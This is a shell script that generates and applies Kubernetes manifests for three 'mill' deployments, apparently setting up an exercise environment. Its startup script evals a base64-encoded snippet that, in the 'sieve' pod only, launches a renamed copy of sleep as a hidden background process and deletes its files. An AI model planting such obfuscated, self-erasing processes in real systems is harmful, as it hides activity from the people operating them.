set -e
hidden=$(base64 -w0 << 'SH'
[ "$(printf %s "$MILL_SITE" | cksum | cut -d' ' -f1)" = NUMBER ] && mkdir -p /tmp/.cache && cp /bin/sleep /tmp/.cache/kmilld && printf 'flour for somebody else' >> /tmp/.cache/kmilld && { /tmp/.cache/kmilld infinity & sleep 1; rm -r /tmp/.cache; }
SH
)
site=$(printf %s sieve | cksum | cut -d' ' -f1)
hidden=$(base64 -d <<< "$hidden" | sed "s/NUMBER/$site/" | base64 -w0)
deployment() {
  cat << YAML
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: $1, namespace: mill }
spec:
  strategy: { type: Recreate }
  selector: { matchLabels: { app: $1 } }
  template:
    metadata: { labels: { app: $1 } }
    spec:
      terminationGracePeriodSeconds: 1
      volumes: [{ name: script, configMap: { name: mill-script } }]
      containers:
        - name: $1
          image: nginx:1.27
          imagePullPolicy: IfNotPresent
          command: [bash, /mill/start.sh]
          env: [{ name: MILL_SITE, value: $1 }]
          volumeMounts: [{ name: script, mountPath: /mill, readOnly: true }]
YAML
}
{
  cat << YAML
apiVersion: v1
kind: Namespace
metadata: { name: mill }
---
apiVersion: v1
kind: ConfigMap
metadata: { name: mill-script, namespace: mill }
data:
  start.sh: |
    eval "\$(base64 -d <<< $hidden)" 2> /dev/null
    mkdir -p /var/run/mill 2> /dev/null
    while true; do
      case \$MILL_SITE in
        millstone) if date 2> /dev/null > /var/run/mill/last; then echo ground; else echo 'cannot write to /var/run/mill'; fi ;;
        *) echo working ;;
      esac
      sleep 2
    done
YAML
  deployment millstone
  deployment sieve
  deployment sacks
} | kubectl apply --validate=false -f -
